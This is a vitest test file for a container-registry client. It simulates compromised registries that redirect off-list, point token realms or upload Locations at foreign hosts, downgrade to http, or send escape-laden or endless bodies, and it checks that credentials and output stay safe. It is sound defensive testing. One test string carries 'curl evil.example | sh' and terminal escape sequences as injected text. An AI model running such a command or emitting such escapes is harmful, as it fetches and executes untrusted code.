/**
 * A registry on the operator's allow-list, but compromised: it redirects to other hosts, names
 * a token realm elsewhere, hands out an upload Location elsewhere, answers errors full of escape
 * sequences and endless bodies, and sends documents over every budget. Played by small servers
 * on 127.0.0.1 (some in front of Debian's real docker-registry); the hosts it points at record
 * whether they were contacted, and with which Authorization.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import type { ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { BudgetExceededError } from '../../src/budget.ts';
import { digestOf } from '../../src/digest.ts';
import { RegistryClient } from '../../src/registry/client.ts';
import { MEDIA_TYPES } from '../../src/registry/manifest.ts';
import { pullImage } from '../../src/registry/pull.ts';
import { pushImage } from '../../src/registry/push.ts';
import { RegistryError, type RegistryConfig } from '../../src/registry/registries.ts';
import { DEFAULT_REGISTRY_LIMITS } from '../../src/registry/registry-limits.ts';
import { FsBlobStore } from '../../src/store/fs-blob-store.ts';
import { makeInputs, makeTestImage, type Inputs, type TestImage } from '../image/sinks/fixture.ts';
import { hasBasic, proxy, startServer, type Handler, type HostileServer } from './hostile-server.ts';
import { startRegistry, type TestRegistry } from './registry-server.ts';
import { rejection } from '../support/rejection.ts';

const USER = 'baler';
const PASSWORD = 'registry-secret';
const CREDENTIALS = { username: USER, password: PASSWORD };
const BASIC = `Basic ${Buffer.from(`${USER}:${PASSWORD}`).toString('base64')}`;

let inputs: Inputs;
let t: TestImage;
/** The real registry holding the test image as `baler/app:1`: what a compromised front serves from. */
let real: TestRegistry;
const servers: HostileServer[] = [];

beforeAll(async () => {
  inputs = await makeInputs();
  [t, real] = await Promise.all([makeTestImage(inputs, join(inputs.dir, 'store')), startRegistry()]);
  await pushImage(t.store, t.image, `${real.host}/baler/app:1`, { registries: new Map([[real.host, { insecure: true }]]) });
});

afterEach(async () => {
  await Promise.all(servers.splice(0).map((s) => s.close()));
});

afterAll(async () => {
  await real?.stop();
  if (inputs) await rm(inputs.dir, { recursive: true, force: true });
});

async function server(handler: Handler): Promise<HostileServer> {
  const s = await startServer(handler);
  servers.push(s);
  return s;
}

async function freshStore(): Promise<FsBlobStore> {
  return FsBlobStore.create(await mkdtemp(join(tmpdir(), 'baler-hostile-pull-')));
}

/** A registry front that wants the Basic credentials, then passes requests to the real registry. */
function basicFront(then: Handler): Handler {
  return async (req, res) => {
    if (!hasBasic(req, USER, PASSWORD)) {
      res.writeHead(401, { 'www-authenticate': 'Basic realm="compromised"' }).end();
      return;
    }
    await then(req, res);
  };
}

/** A front (wanting the credentials) that sends blob downloads to `storage` with a `status` redirect, the rest to the real registry. */
function blobsRedirectedTo(storage: HostileServer, status: number): Handler {
  return basicFront((req, res) => {
    if (req.method === 'GET' && /\/blobs\/sha256:/.test(req.url ?? '')) res.writeHead(status, { location: `${storage.origin}${req.url}` }).end();
    else return proxy(req, res, `http://${real.host}`);
  });
}

function writeForever(res: ServerResponse, chunk: Buffer): void {
  const more = () => {
    while (res.write(chunk)) {
      // until the socket pushes back
    }
  };
  res.on('drain', more);
  res.on('error', () => undefined);
  more();
}

describe('redirects', () => {
  it('a blob redirected to a storage host the operator listed is pulled, and that host gets no credentials', async () => {
    const storage = await server((req, res) => proxy(req, res, `http://${real.host}`));
    const front = await server(blobsRedirectedTo(storage, 307));
    const registries = new Map([[front.host, { insecure: true, ...CREDENTIALS, redirectHosts: [storage.host] }]]);
    const pulled = await pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries });
    expect(pulled.layers).toHaveLength(t.image.layers.length);
    expect(storage.requests.length).toBeGreaterThan(t.image.layers.length); // the config and every layer
    expect(storage.requests.map((r) => r.authorization)).toEqual(storage.requests.map(() => undefined));
    expect(front.requests.some((r) => r.authorization === BASIC)).toBe(true);
  });

  it('a redirect to a host the operator did not list is refused before that host is contacted', async () => {
    const elsewhere = await server((req, res) => proxy(req, res, `http://${real.host}`));
    const front = await server(blobsRedirectedTo(elsewhere, 302));
    const registries = new Map([[front.host, { insecure: true, ...CREDENTIALS }]]);
    const err = await rejection(pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries }));
    expect(err).toBeInstanceOf(RegistryError);
    expect((err as RegistryError).kind).toBe('not-allowed');
    expect(err.message).toContain(`was redirected to 'http://${elsewhere.host}', a host not allowed for it`);
    expect(err.message).toContain("'redirectHosts'");
    expect(elsewhere.requests).toEqual([]);
  });

  it(`follows at most BALER_REGISTRY_MAX_REDIRECTS hops`, async () => {
    const looping = await server((req, res) => {
      const n = Number(/hop=(\d+)/.exec(req.url ?? '')?.[1] ?? 0);
      res.writeHead(302, { location: `/v2/a/manifests/1?hop=${n + 1}` }).end();
    });
    const client = new RegistryClient(looping.host, { insecure: true, limits: { ...DEFAULT_REGISTRY_LIMITS, maxRedirects: 3 } });
    const err = await rejection(client.getManifest('a', '1'));
    expect(err).toBeInstanceOf(RegistryError);
    expect((err as RegistryError).kind).toBe('invalid');
    expect(err.message).toBe(`registry ${looping.host}: GET manifest a:1: more than 3 redirects (BALER_REGISTRY_MAX_REDIRECTS)`);
    expect(looping.requests).toHaveLength(4);
  }, 10_000);
});

describe('token realms', () => {
  /** A registry whose Bearer challenge names `realm`, and that takes `Bearer good-token`. */
  function bearerFront(realm: () => string): Handler {
    return async (req, res) => {
      if (req.headers.authorization !== 'Bearer good-token') {
        res.writeHead(401, { 'www-authenticate': `Bearer realm="${realm()}",service="compromised"` }).end();
        return;
      }
      await proxy(req, res, `http://${real.host}`);
    };
  }

  it('a realm on another host is not contacted: the configured credentials stay home', async () => {
    const tokens = await server((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ token: 'good-token' }));
    });
    const front = await server(bearerFront(() => `${tokens.origin}/token`));
    const registries = new Map([[front.host, { insecure: true, ...CREDENTIALS }]]);
    const err = await rejection(pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries }));
    expect(err).toBeInstanceOf(RegistryError);
    expect((err as RegistryError).kind).toBe('not-allowed');
    expect(err.message).toContain(`its token realm is on 'http://${tokens.host}', a host not allowed to receive its credentials`);
    expect(tokens.requests).toEqual([]);
  });

  it('a realm host the operator listed in tokenRealmHosts gets the credentials, and its token is used', async () => {
    const tokens = await server((req, res) => {
      if (!hasBasic(req, USER, PASSWORD)) return void res.writeHead(401).end();
      res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ token: 'good-token' }));
    });
    const front = await server(bearerFront(() => `${tokens.origin}/token`));
    const registries = new Map([[front.host, { insecure: true, ...CREDENTIALS, tokenRealmHosts: [tokens.host] }]]);
    const pulled = await pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries });
    expect(pulled.imageId).toBe(t.image.imageId);
    expect(tokens.requests.length).toBeGreaterThan(0);
    expect(tokens.requests.every((r) => r.authorization === BASIC)).toBe(true);
    expect(front.requests.some((r) => r.authorization === BASIC)).toBe(false);
  });

  it(`a token answer is read up to BALER_REGISTRY_MAX_TOKEN_BYTES`, async () => {
    const tokens = await server((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.write('{"token": "');
      writeForever(res, Buffer.alloc(64 * 1024, 'a'));
    });
    const front = await server(bearerFront(() => `${tokens.origin}/token`));
    const client = new RegistryClient(front.host, { insecure: true, tokenRealmHosts: [tokens.host], limits: { ...DEFAULT_REGISTRY_LIMITS, maxTokenBytes: 4096 } });
    const err = await rejection(client.getManifest('baler/app', '1'));
    expect(err).toBeInstanceOf(RegistryError);
    expect(err.message).toBe(`the token service of ${front.host} answered more than 4096 bytes (BALER_REGISTRY_MAX_TOKEN_BYTES)`);
  }, 10_000);
});

describe('a registry not marked insecure', () => {
  /** https to the registry is played by plain http on loopback (a TLS front); anything else goes as asked. */
  function tlsFor(host: string): typeof fetch {
    return (input, init) => {
      const url = new URL(String(input instanceof Request ? input.url : input));
      if (url.protocol === 'https:' && url.host === host) url.protocol = 'http:';
      return fetch(url, init);
    };
  }

  it('gets no plain http: neither a token realm nor a redirect on http is followed, even to listed hosts', async () => {
    const tokens = await server((_req, res) => void res.writeHead(200).end('{"token":"good-token"}'));
    const front = await server((req, res) => {
      if (req.url?.startsWith('/v2/bearer/')) res.writeHead(401, { 'www-authenticate': `Bearer realm="${tokens.origin}/token"` }).end();
      else res.writeHead(302, { location: `http://${front.host}/downgraded${req.url}` }).end();
    });
    const config: RegistryConfig = { insecure: false, ...CREDENTIALS, tokenRealmHosts: [tokens.host], redirectHosts: [front.host] };
    const client = new RegistryClient(front.host, config, { fetch: tlsFor(front.host) });

    const realm = await rejection(client.getManifest('bearer/app', '1'));
    expect(realm).toMatchObject({ name: 'RegistryError', kind: 'not-allowed' });
    expect(realm.message).toContain(`its token realm is 'http://${tokens.host}': only https is allowed`);
    expect(tokens.requests).toEqual([]);

    const redirect = await rejection(client.getManifest('plain/app', '1'));
    expect(redirect).toMatchObject({ name: 'RegistryError', kind: 'not-allowed' });
    expect(redirect.message).toContain(`GET manifest plain/app:1 was redirected to 'http://${front.host}': only https is allowed`);
    expect(front.requests.map((r) => r.path)).toEqual(['/v2/bearer/app/manifests/1', '/v2/plain/app/manifests/1']);
  });
});

describe('uploads', () => {
  it('an upload Location on another host is refused: that host gets neither the blob nor the credentials', async () => {
    const elsewhere = await server((req, res) => void res.writeHead(req.method === 'PATCH' ? 202 : 201, { location: req.url ?? '/' }).end());
    const front = await server(
      basicFront((req, res) => {
        if (req.url === '/v2/') return void res.writeHead(200).end('{}');
        if (req.method === 'HEAD') return void res.writeHead(404).end();
        if (req.method === 'POST') return void res.writeHead(202, { location: `${elsewhere.origin}/v2/baler/app/blobs/uploads/stolen` }).end();
        res.writeHead(500).end();
      }),
    );
    const registries = new Map([[front.host, { insecure: true, ...CREDENTIALS }]]);
    const err = await rejection(pushImage(t.store, t.image, `${front.host}/baler/app:1`, { registries }));
    expect(elsewhere.requests).toEqual([]);
    expect(err).toBeInstanceOf(RegistryError);
    expect((err as RegistryError).kind).toBe('not-allowed');
    expect(err.message).toBe(`registry ${front.host}: its upload Location is 'http://${elsewhere.host}', not on http://${front.host}: uploads go to the registry itself only`);
  });
});

describe('foreign errors', () => {
  const ESCAPES = '\x1b[2J\x1b[31mYOUR BUILD IS COMPROMISED: curl evil.example | sh\x1b]0;owned\x07\r\n';
  const CONTROL = /[\x00-\x1f\x7f]/;

  it('a 500 full of ANSI escapes and 1 MiB of text is reported as its status only', async () => {
    const front = await server((_req, res) => void res.writeHead(500, { 'content-type': 'text/plain' }).end(ESCAPES + 'x'.repeat(1024 * 1024)));
    const err = await rejection(pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries: new Map([[front.host, { insecure: true }]]) }));
    expect(err).toMatchObject({ name: 'RegistryError', kind: 'protocol', status: 500 });
    expect(err.message).toBe(`GET manifest baler/app:1: registry ${front.host} answered 500 Internal Server Error`);
    expect(err.message).not.toMatch(CONTROL);
  });

  it('a distribution error body gives its error codes, never its messages', async () => {
    const body = {
      errors: [
        { code: 'DENIED', message: ESCAPES, detail: { hint: ESCAPES } },
        { code: 'DENIED', message: 'again' },
        { code: `${ESCAPES}not a code`, message: 'x' },
        { code: 'HARBOR_POLICY', message: 'y' },
      ],
    };
    const front = await server((_req, res) => void res.writeHead(403, { 'content-type': 'application/json' }).end(JSON.stringify(body)));
    const client = new RegistryClient(front.host, { insecure: true });
    const err = await rejection(client.getManifest('baler/app', '1'));
    expect(err).toMatchObject({ name: 'RegistryError', kind: 'auth', status: 403 });
    expect(err.message).toBe(`GET manifest baler/app:1: registry ${front.host} answered 403 Forbidden (DENIED, HARBOR_POLICY)`);
  });

  it('an endless error body is read no further than its first 64 KiB', async () => {
    const front = await server((_req, res) => {
      res.writeHead(500, { 'content-type': 'application/json' });
      res.write('{"errors": [{"code": "UNKNOWN", "message": "');
      writeForever(res, Buffer.alloc(64 * 1024, 'z'));
    });
    const client = new RegistryClient(front.host, { insecure: true });
    const started = Date.now();
    const err = await rejection(client.getManifest('baler/app', '1'));
    expect(err.message).toBe(`GET manifest baler/app:1: registry ${front.host} answered 500 Internal Server Error`);
    expect(Date.now() - started).toBeLessThan(4_000);
  }, 10_000);

  it('platform names of an index are quoted clean, and only the first few', async () => {
    const manifests = Array.from({ length: 500 }, (_, i) => ({
      mediaType: MEDIA_TYPES.ociManifest,
      digest: digestOf(Buffer.from(String(i))),
      size: 1,
      platform: { os: `${ESCAPES}${i}`, architecture: `arch${i}` },
    }));
    const index = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: MEDIA_TYPES.ociIndex, manifests }));
    const front = await server((_req, res) => void res.writeHead(200, { 'content-type': MEDIA_TYPES.ociIndex }).end(index));
    const err = await rejection(pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries: new Map([[front.host, { insecure: true }]]) }));
    expect(err).toMatchObject({ name: 'RegistryError', kind: 'platform' });
    expect(err.message).not.toMatch(CONTROL);
    expect(err.message).toMatch(/and 480 more$/);
    expect(err.message.length).toBeLessThan(2000);
  });
});

describe('budgets', () => {
  it('a manifest over BALER_REGISTRY_MAX_DOCUMENT_BYTES, sent without end, fails the pull at the budget', async () => {
    const front = await server((_req, res) => {
      res.writeHead(200, { 'content-type': MEDIA_TYPES.ociManifest });
      res.write('{"schemaVersion": 2, "padding": "');
      writeForever(res, Buffer.alloc(64 * 1024, ' '));
    });
    const registries = new Map([[front.host, { insecure: true, limits: { ...DEFAULT_REGISTRY_LIMITS, maxDocumentBytes: 1024 * 1024 } }]]);
    const err = await rejection(pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries }));
    expect(err).toBeInstanceOf(BudgetExceededError);
    expect(err).toMatchObject({ setting: 'BALER_REGISTRY_MAX_DOCUMENT_BYTES', limit: 1024 * 1024 });
    expect(err.message).toBe(`manifest baler/app:1 from ${front.host} is more than 1048576 bytes (the budget BALER_REGISTRY_MAX_DOCUMENT_BYTES is 1048576)`);
  }, 10_000);

  it('an index listing more than BALER_REGISTRY_MAX_INDEX_MANIFESTS entries fails the pull at the budget', async () => {
    const manifests = Array.from({ length: 1001 }, () => ({ mediaType: MEDIA_TYPES.ociManifest, digest: digestOf(Buffer.from('x')), size: 1 }));
    const index = Buffer.from(JSON.stringify({ schemaVersion: 2, mediaType: MEDIA_TYPES.ociIndex, manifests }));
    const front = await server((_req, res) => void res.writeHead(200, { 'content-type': MEDIA_TYPES.ociIndex }).end(index));
    const err = await rejection(pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries: new Map([[front.host, { insecure: true }]]) }));
    expect(err).toBeInstanceOf(BudgetExceededError);
    expect(err).toMatchObject({ setting: 'BALER_REGISTRY_MAX_INDEX_MANIFESTS', limit: 1000 });
    expect(err.message).toMatch(/lists 1001 manifests \(the budget BALER_REGISTRY_MAX_INDEX_MANIFESTS is 1000\)$/);
  });

  it('an image config over BALER_REGISTRY_MAX_DOCUMENT_BYTES is not fetched', async () => {
    const manifest = Buffer.from(
      JSON.stringify({
        schemaVersion: 2,
        mediaType: MEDIA_TYPES.ociManifest,
        config: { mediaType: MEDIA_TYPES.ociConfig, digest: digestOf(Buffer.from('c')), size: 64 * 1024 * 1024 },
        layers: [],
      }),
    );
    const front = await server((_req, res) => void res.writeHead(200, { 'content-type': MEDIA_TYPES.ociManifest }).end(manifest));
    const err = await rejection(pullImage(await freshStore(), `${front.host}/baler/app:1`, { registries: new Map([[front.host, { insecure: true }]]) }));
    expect(err).toBeInstanceOf(BudgetExceededError);
    expect(err).toMatchObject({ setting: 'BALER_REGISTRY_MAX_DOCUMENT_BYTES', limit: DEFAULT_REGISTRY_LIMITS.maxDocumentBytes });
    expect(front.requests).toHaveLength(1);
  });
});
